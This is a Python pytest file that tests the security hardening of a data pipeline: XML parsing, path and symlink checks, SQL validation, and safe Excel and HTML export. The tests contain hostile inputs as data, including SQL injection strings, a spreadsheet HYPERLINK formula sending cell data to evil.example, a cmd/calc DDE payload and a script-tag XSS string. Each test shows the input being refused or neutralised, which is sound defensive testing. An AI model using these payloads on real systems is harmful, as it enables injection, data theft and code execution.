"""Safe parsing, safe paths, SQL that never carries untrusted text, safe exports and a UI bound to localhost.

The hostile corpus (tests/test_hostile_inputs.py) shows what each bad file becomes; these tests prove
the mechanisms behind that: XML is parsed with no network and no entity expansion, links leading out
of data/raw are refused, values from indicator sheets and run settings are validated before any SQL
is built, text from grantees' files reaches the Excel workbook as inert text and the report as escaped
HTML, and `mel ui` listens on 127.0.0.1 unless told otherwise. There is no CSV export to neutralise:
the marts are published as DuckDB, Parquet and Excel only.
"""

from __future__ import annotations

import os
import socket
import threading
import time
import urllib.request
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook
from pydantic import ValidationError

from mel_pipeline import cli
from mel_pipeline.indicators.engine import run_indicator
from mel_pipeline.outputs.report import build_report
from mel_pipeline.outputs.workbook import export_workbook
from mel_pipeline.raw.files import UnreadableFile
from mel_pipeline.raw.iati import read_iati
from mel_pipeline.reference.catalogue import IndicatorError, IndicatorSheet, load_sheet
from mel_pipeline.settings import REPO_ROOT, Settings
from mel_pipeline.staging.contract import SOURCES
from mel_pipeline.staging.ingest import ingest_source
from mel_pipeline.warehouse import configure, open_warehouse
from tests.conftest import FIXTURE_AS_OF, settings_for
from tests.test_hostile_inputs import publish_from

HOSTILE = Path(__file__).resolve().parent / "hostile"
PARTICIPANTS = ("proyecto,id_evento,fecha_evento,canal,nombre_completo,sexo,estado,tipo_participante\n"
                "MAP,MAP-L-01,2023-03-01,taller,Secundina Olvera Paz,Mujer,Puebla,trabajadora\n")


@pytest.mark.parametrize("name", ["external_entity_xxe.xml", "billion_laughs.xml", "external_dtd_over_the_network.xml"])
def test_xml_with_a_dtd_is_refused_at_once_without_network_or_file_access(monkeypatch, name):
    touched = []
    monkeypatch.setattr(socket.socket, "connect", lambda *args: touched.append(("connect", args)))
    # expat's external entities and DTDs are fetched through urllib, file:// URLs included.
    monkeypatch.setattr(urllib.request, "urlopen", lambda *args, **kwargs: touched.append(("urlopen", args)))
    started = time.perf_counter()
    with pytest.raises(UnreadableFile, match=rf"^iati/{name}: line 2 declares a DTD"):
        read_iati(HOSTILE / "iati" / name, f"iati/{name}")
    assert time.perf_counter() - started < 1
    assert touched == []


def test_well_formed_iati_still_parses_with_the_same_hardened_parser():
    rows = read_iati(REPO_ROOT / "data" / "raw" / "iati" / "portfolio_results.xml", "iati/portfolio_results.xml")
    # One row per baseline, target and actual element: counted in the file with grep, 115 baselines and
    # targets and 190 actuals (each period's total and its AWR-01 sex cells).
    assert rows.num_rows == 305


def ingest(tmp_path: Path, raw: Path, source: str):
    """Ingest the projects register and one source; returns (load_audit rows, staged rows) of the source."""
    settings = settings_for(tmp_path, raw, as_of=FIXTURE_AS_OF)
    with open_warehouse(settings) as connection:
        ingest_source(connection, settings, "projects")
        ingest_source(connection, settings, source)
        audit = connection.execute("SELECT file, status, rows_loaded, notes FROM load_audit WHERE source = ? "
                                   "ORDER BY file", [source]).fetchall()
        staged = connection.execute(f"SELECT _source_file, count(*) FROM stg_{source} GROUP BY ALL ORDER BY ALL"
                                    ).fetchall()
    return audit, staged


@pytest.fixture
def raw_with_projects(tmp_path) -> Path:
    raw = tmp_path / "raw"
    (raw / "projects").mkdir(parents=True)
    (raw / "projects" / "projects.csv").write_bytes((REPO_ROOT / "data" / "raw" / "projects" / "projects.csv").read_bytes())
    return raw


def test_links_that_lead_out_of_the_raw_folder_are_refused_and_never_read(tmp_path, raw_with_projects):
    raw = raw_with_projects
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "secret.csv").write_text(PARTICIPANTS, encoding="utf-8")
    (raw / "participants").mkdir()
    (raw / "participants" / "inside.csv").write_text(PARTICIPANTS, encoding="utf-8")
    (raw / "participants" / "to_inside.csv").symlink_to(raw / "participants" / "inside.csv")
    (raw / "participants" / "to_outside.csv").symlink_to(outside / "secret.csv")
    (raw / "participants" / "to_a_relative_outside.csv").symlink_to(Path("..") / ".." / "elsewhere" / "secret.csv")
    (raw / "targets").symlink_to(outside, target_is_directory=True)
    audit, staged = ingest(tmp_path, raw, "participants")
    assert [(file, status) for file, status, *_ in audit] == [
        ("participants/inside.csv", "loaded"), ("participants/to_a_relative_outside.csv", "quarantined"),
        ("participants/to_inside.csv", "loaded"), ("participants/to_outside.csv", "quarantined")]
    assert all("a link to a file outside the raw data folder" in notes for _, status, _, notes in audit
               if status == "quarantined")
    # The link inside the folder is read like any file; its record repeats inside.csv's, so it is kept once.
    assert staged == [("participants/to_inside.csv", 1)]
    assert [(file, rows_loaded) for file, status, rows_loaded, _ in audit if status == "loaded"] == [
        ("participants/inside.csv", 0), ("participants/to_inside.csv", 1)]
    with open_warehouse(settings_for(tmp_path, raw, as_of=FIXTURE_AS_OF)) as connection:
        assert connection.execute("SELECT file, rows_superseded, resubmissions FROM load_audit "
                                  "WHERE file IN ('participants/inside.csv', 'participants/to_inside.csv') "
                                  "ORDER BY file").fetchall() == [
            ("participants/inside.csv", 1, "1 row superseded by participants/to_inside.csv"),
            ("participants/to_inside.csv", 0, "1 row kept over the same key in participants/inside.csv")]
    audit, staged = ingest(tmp_path, raw, "targets")
    assert [(file, status) for file, status, *_ in audit] == [("targets/secret.csv", "quarantined")]
    assert staged == []


def test_pipes_devices_and_link_loops_in_the_raw_folder_neither_hang_nor_get_read(tmp_path, raw_with_projects):
    raw = raw_with_projects
    (raw / "participants").mkdir()
    (raw / "participants" / "a.csv").write_text(PARTICIPANTS, encoding="utf-8")
    os.mkfifo(raw / "participants" / "pipe.csv")
    (raw / "participants" / "zeros.csv").symlink_to("/dev/zero")
    (raw / "participants" / "loop.csv").symlink_to(raw / "participants" / "loop.csv")
    outcome = []
    worker = threading.Thread(target=lambda: outcome.append(ingest(tmp_path, raw, "participants")), daemon=True)
    worker.start()
    worker.join(timeout=60)
    assert not worker.is_alive(), "ingesting a folder with a pipe, a device and a link loop hangs"
    [(audit, staged)] = outcome
    assert [(file, status) for file, status, *_ in audit] == [("participants/a.csv", "loaded")]


def test_a_file_name_written_like_sql_is_only_ever_a_quoted_path(tmp_path, raw_with_projects):
    raw = raw_with_projects
    name = "x'); DROP TABLE stg_projects; --.csv"
    (raw / "participants").mkdir()
    (raw / "participants" / name).write_text(PARTICIPANTS, encoding="utf-8")
    audit, staged = ingest(tmp_path, raw, "participants")
    assert audit == [(f"participants/{name}", "loaded", 1, None)]
    settings = settings_for(tmp_path, raw, as_of=FIXTURE_AS_OF)
    with open_warehouse(settings) as connection:
        assert connection.execute("SELECT count(*) FROM stg_projects").fetchone()[0] == 4


SHEET = dict(code="AWR-01", name="Workers trained", theme="awareness", unit="count",
             definition="People who completed a labor-rights training.", direction="higher_is_better",
             accumulation="incremental", aggregation="sum", data_sources=["indicator_reports"], approach="conventional")


@pytest.mark.parametrize("field, value", [
    ("code", "AWR-01'; DROP TABLE stg_participants; --"), ("code", "AWR-01' OR '1'='1"),
    ("theme", "awareness'--"), ("unit", "count'"), ("aggregation", "sum); DROP TABLE x; --"),
    ("data_sources", ["participants'; --"]), ("disaggregations", ["sex' OR 1=1"]),
])
def test_an_indicator_sheet_value_with_a_quote_is_rejected_before_any_sql(field, value):
    with pytest.raises(ValidationError):
        IndicatorSheet(**{**SHEET, field: value})


def test_indicator_sql_must_be_one_select_and_may_bind_only_known_parameters(tmp_path):
    folder = tmp_path / "indicators" / "awareness"
    folder.mkdir(parents=True)
    sheet_text = (REPO_ROOT / "indicators" / "awareness" / "AWR-01.yaml").read_text(encoding="utf-8")
    (folder / "AWR-01.yaml").write_text(sheet_text, encoding="utf-8")
    (folder / "AWR-01.sql").write_text("SELECT 1; DROP TABLE stg_participants", encoding="utf-8")
    with pytest.raises(IndicatorError, match="exactly one SELECT"):
        load_sheet(folder / "AWR-01.yaml", SOURCES)
    (folder / "AWR-01.sql").write_text("SELECT * FROM stg_participants WHERE event_date <= $as_of AND $secret",
                                       encoding="utf-8")
    sheet = load_sheet(folder / "AWR-01.yaml", SOURCES)
    with pytest.raises(IndicatorError, match=r"unknown SQL parameter\(s\) \['secret'\]"):
        run_indicator(duckdb.connect(), sheet, Settings.from_env(as_of=FIXTURE_AS_OF))


@pytest.mark.parametrize("variable, value", [
    ("MEL_AS_OF", "2025-12-31'; DROP TABLE stg_projects; --"),
    ("MEL_SUPPRESSION_THRESHOLD", "11; DROP TABLE stg_projects"),
    ("MEL_DUCKDB_THREADS", "2; DROP TABLE stg_projects"),
])
def test_a_run_setting_that_is_not_what_it_claims_stops_the_run_before_any_sql(monkeypatch, variable, value):
    monkeypatch.setenv(variable, value)
    with pytest.raises(ValueError):
        Settings.from_env()


def test_a_memory_limit_with_sql_in_it_is_refused_before_it_reaches_duckdb(monkeypatch):
    monkeypatch.setenv("MEL_DUCKDB_MEMORY_LIMIT", "1GB'; ATTACH '/tmp/evil.duckdb' AS evil; --")
    connection = duckdb.connect()
    with pytest.raises(ValueError, match="MEL_DUCKDB_MEMORY_LIMIT"):
        configure(connection, Settings.from_env())
    assert connection.execute("SELECT count(*) FROM duckdb_databases() WHERE database_name = 'evil'").fetchone()[0] == 0


def sentinel_with(rows: list[str], header_extra: str = "") -> str:
    return "series_code,observed_on,geography,value,unit,label,source" + header_extra + "\n" + "\n".join(rows) + "\n"


def test_grantee_text_reaches_the_workbook_as_inert_text_and_the_report_escaped(tmp_path, raw_with_projects):
    raw = raw_with_projects
    (raw / "sentinel").mkdir()
    quiet = [f"rights_inquiries_per_1000,2022-{month:02}-01,Puebla,{4 + month / 10},,hotline,survey,"
             for month in range(1, 10)]
    (raw / "sentinel" / "formulas.csv").write_text(sentinel_with([
        *quiet,
        'rights_inquiries_per_1000,2022-10-01,Puebla,4.4,,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",@SUM(A1),',
        "rights_inquiries_per_1000,2022-11-01,Puebla,40,,<script>alert(1)</script>,-2+cmd,",
        "rights_inquiries_per_1000,2022-12-01,+cmd|' /C calc'!A0,4.5,,hotline,survey,",
    ], header_extra=",=unknown()"), encoding="utf-8")
    marts = publish_from(tmp_path, raw, ["projects", "sentinel"])
    workbook = load_workbook(export_workbook(marts, marts.parent / "mel_marts.xlsx"))
    cells = {cell.value: cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)}
    for text in ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(A1)", "-2+cmd", "+cmd|' /C calc'!A0"]:
        assert "'" + text in cells and cells["'" + text].data_type == "s", text
        assert text not in cells, text
    assert not any(cell.data_type == "f" for cell in cells.values())
    page = build_report(marts, marts.parent / "report").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script" not in page


def test_the_ui_listens_on_localhost_unless_told_otherwise(monkeypatch, tmp_path):
    started = []
    monkeypatch.setenv("DAGSTER_HOME", str(tmp_path / "dagster"))
    monkeypatch.setattr(cli.signal, "signal", lambda *args: None)
    monkeypatch.setattr(cli.os, "execv", lambda program, arguments: started.append(arguments))
    cli.main(["ui"])
    [arguments] = started
    assert arguments[arguments.index("--host") + 1] == "127.0.0.1"
    make_ui = (REPO_ROOT / "Makefile").read_text(encoding="utf-8").split("\nui:", 1)[1].split("\n\n", 1)[0]
    assert "--host" not in make_ui
